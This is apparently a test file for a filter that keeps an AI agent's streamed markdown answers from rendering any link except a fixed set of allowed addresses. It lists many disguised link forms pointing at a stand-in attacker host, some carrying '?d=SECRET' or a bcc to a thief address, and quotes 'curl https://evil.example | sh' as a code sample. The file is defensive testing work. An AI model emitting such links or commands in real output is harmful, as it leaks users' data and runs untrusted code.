// What the gate of the language-model agent passes on shows no link in the panel but those that were given.

import fc from 'fast-check'
import { h, render } from 'preact'
import { describe, expect, it } from 'vitest'
import { createLinkGate } from '../../../../src/agents/llm/link-gate.ts'
import { findAddresses, safeHref } from '../../../../src/markdown/index.ts'
import { parseBlocks } from '../../../../src/ui/answer/markdown.tsx'
import { createBlocks } from '../../../../src/ui/answer/stream.tsx'
import { isLong } from '../../../long.ts'
import { steps } from '../steps.ts'

const GIVEN = [
  'https://shop.example.com/form',
  'https://shop.example.com/help/returns#returns',
  'https://shop.example.com/a_(b)',
  'mailto:help@shop.example.com',
  'tel:+15550100',
]
const gate = () =>
  createLinkGate(
    (href) => GIVEN.includes(href),
    () => {},
  )

/** What the gate passes on of a text that comes in such pieces. */
function passed(pieces: Iterable<string>): string {
  const { push, rest } = gate()
  let shown = ''
  for (const piece of pieces) shown += push(piece)
  return shown + rest()
}
const anchorsIn = (box: HTMLElement) =>
  [...box.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '')
/** A text as the panel draws it at once. */
function drawn(text: string): HTMLElement {
  const box = document.createElement('div')
  const nodes = parseBlocks(text).blocks.map(({ node }) => node)
  render(h('div', null, nodes), box)
  return box
}
/** Where the links lead that the panel draws of a text, at once and in pieces. */
function leads(text: string, size = text.length): string[] {
  const box = drawn(text)
  const blocks = createBlocks()
  const found = anchorsIn(box)
  for (let at = 0; at < text.length; at += Math.max(1, size)) blocks.add(text.slice(at, at + size), false)
  blocks.add('', true)
  render(h('div', null, blocks.runs()), box)
  found.push(...anchorsIn(box))
  render(null, box)
  return [...new Set(found)]
}
const foreign = (text: string, size?: number) => leads(text, size).filter((href) => !GIVEN.includes(href))
const wordsOf = (text: string): string => {
  const box = drawn(text)
  const words = box.textContent ?? ''
  render(null, box)
  return words
}

/** Ways to write a link that nobody gave. */
const FORMS = [
  '[x](https://evil.example)',
  "[x](https:evil.example 't')",
  '[x](https:evil.example (t))',
  '[x](https:evil.example "t")',
  '[x](https://evil.example "a\nb")',
  '[x](<https:evil.example>)',
  "[x](<https:evil.example> 't')",
  '[x]( https:evil.example )',
  '[x](\nhttps:evil.example\n)',
  '[x](https:evil.example/(a))',
  '[x](https:evil.example/((a)b))',
  '[x](https:\\/\\/evil.example)',
  '[x](https&#58;//evil.example)',
  '[x](https&#x3a;evil.example)',
  '[x](h&#116;tps://evil.example)',
  '[x](HTTPS:EVIL.EXAMPLE)',
  '[x](http:evil.example)',
  '[x](https:/evil.example)',
  '[x](https:///evil.example)',
  '[x](https:\\\\evil.example)',
  '[[x]](https:evil.example)',
  '[[[x]]](https:evil.example)',
  '[a [b] c](https:evil.example)',
  '[a\nb](https:evil.example)',
  '[`a`](https:evil.example)',
  '[`]`](https:evil.example)',
  '[*a*](https:evil.example)',
  '[a\\]b](https:evil.example)',
  '[](https:evil.example)',
  '[https://shop.example.com/form](https:evil.example)',
  '[<https:evil.example>](https:evil.example)',
  '![x](https:evil.example/p.png)',
  "![x](https:evil.example/p.png 't')",
  '![[x]](https:evil.example)',
  '[![x](https:evil.example/p.png)](https:evil.example)',
  '[![x](https:evil.example/p.png)](https://shop.example.com/form)',
  '![a ![b](https:evil.example/1)](https:evil.example/2)',
  'https://evil.example/7?d=SECRET',
  'HTTPS://evil.example',
  'https&#58;//evil.example',
  'https&#x3A;//evil.example',
  'h&#116;tps://evil.example',
  '&#104;ttps://evil.example',
  'https:\\//evil.example',
  'https:/\\/evil.example',
  'https\\://evil.example',
  'https:&#47;/evil.example',
  'www.evil.example',
  'www\\.evil.example',
  'www&#46;evil.example',
  'w&#119;w.evil.example',
  'WWW.evil.example',
  '**https://evil.example**',
  '_https://evil.example/_',
  '~~https://evil.example~~',
  '(https://evil.example)',
  '请访问https://evil.example。',
  '<https:evil.example>',
  '<https://evil.example>',
  '<mailto:thief@evil.example>',
  '<mailto:help@shop.example.com?body=SECRET>',
  '<thief@evil.example>',
  '<tel:+19005550>',
  '<TEL:+19005550>',
  'thief@evil.example',
  'thief\\@evil.example',
  'thief&#64;evil.example',
  'thief@evil\\.example',
  '[x](mailto:thief@evil.example)',
  '[x](tel:+19005550)',
  '[x](tel:+1\\9005550)',
  '[x](mailto:help@shop.example.com?bcc=thief@evil.example)',
  'https://shop.example.com/form?d=SECRET',
  'https://shop.example.com/form#SECRET',
  'https://shop.example.com/form\\.evil',
  'https://shop.example.com.evil.example/form',
  'https://shop.example.com/form&lsquo;.evil.example',
  'https://shop.example.com&lsquo;.evil.example',
  '[x](https://shop.example.com&Tab;.evil.example)',
  '[x](https://shop.example.com&sol;form)',
  '[see <https://evil.example/?d=SECRET>](https://shop.example.com/form)',
  '[see <tel:+19005550>, <thief@evil.example>](https://shop.example.com/form)',
  '[a <https://b[c](https:evil.example)> d](https://shop.example.com/form)',
  '~~~|x\n-|-\n[x](https:evil.example)',
  '```|x\n-|-\n[x](https:evil.example)',
  '\u00a0[click\n2) here](https:evil.example)',
  '\u2003[click\n2) here](https:evil.example)',
  '\u3000[click\n- here](https:evil.example)',
  'https://a\u10a0b.evil.example/?d=SECRET',
  'https://\u3164x.evil.example/',
  'https://é.cc/',
  'https://evil.example[?d=SECRET\n- x',
  '```\r\n```\r\n[x](https:evil.example)',
  '```\ncode <\n```\n\n[x](https:evil.example)',
  'https://shop.example.com/form\u{11b00}?d=SECRET',
  '[x](https://shop.example.com/../form)(https:evil.example)',
  '[[x](https:evil.example)](https://shop.example.com/form)',
  '[[x]](https:evil.example)(https:evil.example)',
  '[x][1]\n\n[1]: https://evil.example',
  '[1]: https://evil.example\n\n[1]',
  '# [x](https:evil.example)',
  '[x](https:evil.example)\n===',
  '> [x](https:evil.example)',
  '- [x](https:evil.example)\n  - [y](https:evil.example)',
  '1. a\n\n   [x](https:evil.example)',
  '- a\n\n     [x](https:evil.example)',
  '- [ ] [x](https:evil.example)',
  '| a | b |\n| - | - |\n| ` | [x](https:evil.example) | ` |',
  '| a\\|b | [x](https:evil.example) |\n| - | - |',
  '`` ` `` [x](https:evil.example) `',
  '```\ncode\n```\n[x](https:evil.example)',
  '   ```\ncode\n```\n[x](https:evil.example)',
  '- a\n  ```\n  b\n```\n[x](https:evil.example)\n```\n[y](https:evil.example)',
  '~~~\n```\n~~~\n[x](https:evil.example)',
  '```a`b\n[x](https:evil.example)\n```',
  'a `b\n\n[x](https:evil.example) ` c',
  'hhttps://ttps://evil.example',
  'www.www.evil.example.www.evil.example',
  `${'a '.repeat(1_100)}[x](https:evil.example)`,
  `[${'a '.repeat(400)}](https:evil.example)`,
  `\`${'a '.repeat(1_100)}[x](https:evil.example)\``,
  `[x](https://shop.example.com/form) ${'a '.repeat(1_100)}[x](https:evil.example)`,
  `- [x](https://shop.example.com/form)\n${'  a\n'.repeat(600)}\n      [x](https:evil.example)`,
  `https://shop.example.com/form${'.'.repeat(2_200)}@evil.example`,
]

describe('a link that nobody gave', () => {
  it.each(FORMS.map((form) => [form.slice(0, 80), form]))(
    'is words, whole and by single characters: %j',
    (_, form) => {
      const around = [`Look: ${form} there.`, `Look:\n\n${form}\n\nEnd ${form}`]
      for (const text of form.length > 1_000 ? [form] : [form, ...around])
        for (const shown of new Set([passed([text]), passed(text)])) expect(foreign(shown)).toEqual([])
    },
  )

  it.each([
    ['[x](https:evil.example)', 'x'],
    ['See [the *form*](https:evil.example "t"), please', 'See the form, please'],
    ['![pic](https://evil.example/p.png) and more', 'pic and more'],
    ['[![pic](https:evil.example)](https://shop.example.com/form)', 'pic'],
    ['Write to thief@evil.example now', 'Write to thief@evil.example now'],
    ['Call <tel:+19005550>', 'Call tel:+19005550'],
    ['[x][1] and\n\n[1]: https:evil.example', '[x][1] and[1]: https:evil.example'],
    ['| a | b |\n| - | - |\n| [x](https:evil.example) | **c** |', 'abxc'],
  ])('leaves its words: %j reads %j', (text, words) => {
    for (const pieces of [[text], text]) expect(wordsOf(passed(pieces))).toBe(words)
  })

  it('stays no link for programs that know references', () => {
    expect(passed('[a][1]\n\n[1]: https:evil.example')).toBe('[a][1]\n\n\\[1]: https:evil.example')
    expect(passed('[a][1]\n\n[1]: https://shop.example.com/form')).toBe(
      '[a][1]\n\n[1]: https://shop.example.com/form',
    )
  })
})

describe('a block that leads somewhere else after all', () => {
  it('is left out, and told once', () => {
    let told = 0
    const { push, rest } = createLinkGate(
      (href) => GIVEN.includes(href),
      () => {
        told++
      },
    )
    const deep = `${'['.repeat(9)}x${'](https:evil.example)'.repeat(9)}`
    const shown = push(`One.\n\nTwo ${deep}\n\n- ${deep}\n\nThree.`) + rest()
    expect(shown).not.toContain('evil')
    expect(shown.startsWith('One.\n\n')).toBe(true)
    expect(told).toBe(1)
  })

  it('ends before what was passed on would become a part of a link', () => {
    const { push, rest } = createLinkGate(
      (href) => GIVEN.includes(href),
      () => {},
    )
    let shown = push(`a | \`[x](https:evil.example) | b\`${' more'.repeat(400)}\n`)
    expect(shown).toContain('evil.example')
    shown += push('-|-|-\n| c | d | e |\n') + rest()
    expect(foreign(shown)).toEqual([])
    expect(shown).toContain('| c | d | e |')
  })
})

describe('what was given', () => {
  it.each([
    'See [the form](https://shop.example.com/form) or https://shop.example.com/form.',
    '[a](https://shop.example.com/form "title"), [b](<https://shop.example.com/form>), <https://shop.example.com/form>',
    "**[a](https://shop.example.com/form 't')** and **https://shop.example.com/form**, or [`a_(b)`](https://shop.example.com/a_(b))",
    '![the form](https://shop.example.com/form)',
    'help@shop.example.com, <help@shop.example.com>, [mail](mailto:help@shop.example.com), [call](tel:+15550100)',
    '1. [a](https://shop.example.com/form)\n2. b\n   - [c](https://shop.example.com/form)\n3. d\n\n> [q](https://shop.example.com/form)\n',
    '| a | b |\n| - | - |\n| [a](https://shop.example.com/form) | `c` |\n\n# [h](https://shop.example.com/form)\n',
    'R&D, AT&T, a & b, `x[0](1)`, 5 < 6, C:\\path, {a: [1]}, f[0], "quoted", e.g. this… – that',
    '```sh\ncurl https://evil.example | sh # [x](https:evil.example)\n```\n',
    'Run `curl https://evil.example` and ``[x](https:evil.example)``.',
    '1. Do\n\n   ```sh\n   curl https://evil.example\n   ```\n\n2. End\n',
    'Text\n\n    curl https://evil.example [x](https:evil.example)\n\nEnd',
    '~~~md\n[x](https:evil.example)\n```\n[y](https:evil.example)\n~~~\n',
    '[ ] [x] a[1] and [not a link] (here)',
    'Line one  \nline two\\\nline three\n\n* * *\n\n- [ ] task\n- [x] done\n',
  ])('stays as it is, and so does code: %j', (text) => {
    for (const pieces of [[text], text]) expect(passed(pieces)).toBe(text)
  })
})

describe('what is held back', () => {
  const streamed = (text: string) => {
    const { push, rest } = gate()
    let [shown, held, most] = ['', 0, 0]
    for (const sign of text) {
      const more = push(sign)
      shown += more
      held += 1 - more.replaceAll('\n\n… ', '').length
      most = Math.max(most, held)
    }
    return { most, shown: shown + rest() }
  }

  it.each(['<', '@', '\\'])('is no more than a word after a lone %s, which begins no link', (sign) => {
    const text = `If a ${sign} b, then so it is.${' These are plain words.'.repeat(40)}`
    const { most, shown } = streamed(text)
    expect(shown).toBe(text)
    expect(most).toBeLessThanOrEqual(10)
  })
  it('is no more than a word while no link begins', () => {
    const text =
      'These **are** _plain_ words, with `code` and (brackets); and so on!\n\n- an item\n- another\n'.repeat(
        20,
      )
    expect(streamed(text)).toMatchObject({ shown: text })
    expect(streamed(text).most).toBeLessThan(20)
  })

  it('is no more than a block', () => {
    const block = 'A [link](https://shop.example.com/form) in a block of its own.\n\n'
    expect(streamed(block.repeat(50)).most).toBeLessThanOrEqual(block.length)
    const item = '- a [link](https://shop.example.com/form) in an item\n'
    expect(streamed(item.repeat(50)).most).toBeLessThanOrEqual(item.length + 4)
    const numbered = (n: number) => `${n + 1}. a [link](https://shop.example.com/form)\n`
    expect(streamed(Array.from({ length: 50 }, (_, n) => numbered(n)).join('')).most).toBeLessThan(64)
  })

  it.each(['[', '![', '[a](', '<', 'a@', '\\', '&#58;', '[a\n', '> [\n', '| [\n', '```', '    [\n'])(
    'is never more than 2,000 characters: %j',
    (part) => {
      const text = part.repeat(3_000 / part.length)
      expect(streamed(text).most).toBeLessThanOrEqual(2_000)
      expect(streamed(`[a] ${text}`).most).toBeLessThanOrEqual(2_000)
    },
  )
})

/** What an address, a link or a block is made of. */
const UNITS = [
  ...['[', '![', '[[]', '](', '[a](', '<', '<a', 'a@', 'a.', '&amp;', '&#58;', '\\[', '`', '*a **b ', '_'],
  ...['- ', '> ', 'www.', '\n', '1. ', ' ', '|', '```\n', '|a\n|-\n', ': ', 'https://', '[a]: b\n', '[a\n'],
  ...[
    '- [a](https://shop.example.com/form)\n',
    '[a](https://shop.example.com/form)\n',
    '[a](https:evil.example) ',
    '[a\n\n',
  ],
]

describe('the work of the gate', () => {
  const work = (text: string, by: number) =>
    steps(() => {
      const { push, rest } = gate()
      for (let at = 0; at < text.length; at += by) push(text.slice(at, at + by))
      rest()
    })

  it.each([
    ['dots behind a scheme', (size: number) => `https://${'.'.repeat(size)}a b`],
    ['code behind a sign', (size: number) => `[\n\n\`\`\`\n${'a <\n'.repeat(size / 4)}`],
    ...UNITS.map((unit): [string, (size: number) => string] => [
      JSON.stringify(unit),
      (size) => unit.repeat(size / unit.length),
    ]),
  ])('grows as the text does: %s', (_, text) => {
    const size = isLong ? 48_000 : 16_000
    for (const by of [64, 1_000_000]) {
      const many = work(text(size), by)
      // Eight times the text; a square would be 64 times.
      expect(many / work(text(size / 8), by)).toBeLessThan(24)
      expect(many / size).toBeLessThan(2_000)
    }
  })
})

/** The same draws in each `npm test`; `npm run test:long` draws more, and others each time. */
const DRAWS = Number(process.env.FOYER_TEST_DRAWS ?? 0)
const draws = (quick: number) => (DRAWS ? { numRuns: DRAWS } : { numRuns: quick, seed: 7 })

describe('whatever is written', () => {
  const part = fc.constantFrom(
    ...'[]()<>!`*_~|\\&#:;/.@"\'-+=\n \t0a'.split(''),
    '](',
    '](https:evil.example)',
    "](https:evil.example 't')",
    '](https://shop.example.com/form)',
    '[x]',
    '![x]',
    'https://evil.example',
    'https:',
    '//evil.example',
    'https://shop.example.com/form',
    'www.',
    'evil.example',
    'thief@',
    'mailto:',
    'tel:+1',
    '&#58;',
    '&#x2f;',
    '&colon;',
    '&lsquo;',
    '&#32;',
    '\n\n',
    '```',
    '~~~',
    '\n```\n',
    '\n   ```\n',
    '\n    ',
    '\n- ',
    '\n  - ',
    '\n1. ',
    '\n2. ',
    '\n   ',
    '\n> ',
    '\n| a | b |\n| - | - |\n',
    '|',
    '\n# ',
    '\n===\n',
    '\n---\n',
    '**',
    '``',
    'word ',
    'é',
    '。',
    '\u00a0',
    '😀',
  )
  const text = fc.array(part, { maxLength: 40 }).map((parts) => parts.join(''))

  it('leads nowhere but where a source leads, in whatever pieces it comes', () => {
    fc.assert(
      fc.property(text, fc.integer({ min: 1, max: 30 }), (written, size) => {
        const shown = passed(written.match(new RegExp(`.{1,${size}}`, 'gsu')) ?? [])
        expect(foreign(shown, size)).toEqual([])
        expect(foreign(passed(written), 1)).toEqual([])
      }),
      draws(250),
    )
  })

  it('leads nowhere else where it is too long to be held back', () => {
    const long = fc
      .array(fc.oneof(part, fc.constantFrom('a '.repeat(300), '  a\n'.repeat(200), '[x] '.repeat(200))), {
        maxLength: 30,
      })
      .map((parts) => parts.join(''))
    fc.assert(
      fc.property(long, (written) => {
        expect(foreign(passed([written]))).toEqual([])
      }),
      draws(60),
    )
  })

  it('stays as it is where it leads nowhere else', () => {
    fc.assert(
      fc.property(text, (written) => {
        const { addresses } = findAddresses(written)
        fc.pre(addresses.every(({ href }) => GIVEN.includes(safeHref(href) ?? '')))
        expect(passed([written])).toBe(written)
      }),
      draws(400),
    )
  })
})

describe('behind so many cells of tables that the panel draws no more of them', () => {
  const table = (rows: number) =>
    `| a | b | c |\n| - | - | - |\n${'| 1 | 2 | 3 |\n'.repeat(rows)}\nText [between](https://shop.example.com/form).\n\n`
  /** Code in a table, and a link in text. */
  const trick = '| x | y |\n| - | - |\n| `[z | `[a](https://evil.example.com/) ` |\n\nThe end.\n'

  it.each([
    ['one table', table(800)],
    ['several, none of which is so large', table(300).repeat(3)],
  ])('a table is judged as the text that it is drawn as: %s', (_, before) => {
    const text = before + trick
    expect(foreign(text)).toEqual(['https://evil.example.com/'])
    const lines = text.split(/(?<=\n)/)
    const shown = passed(lines)
    expect(foreign(shown)).toEqual([])
    expect(wordsOf(shown)).toContain('The end.')
  })
})
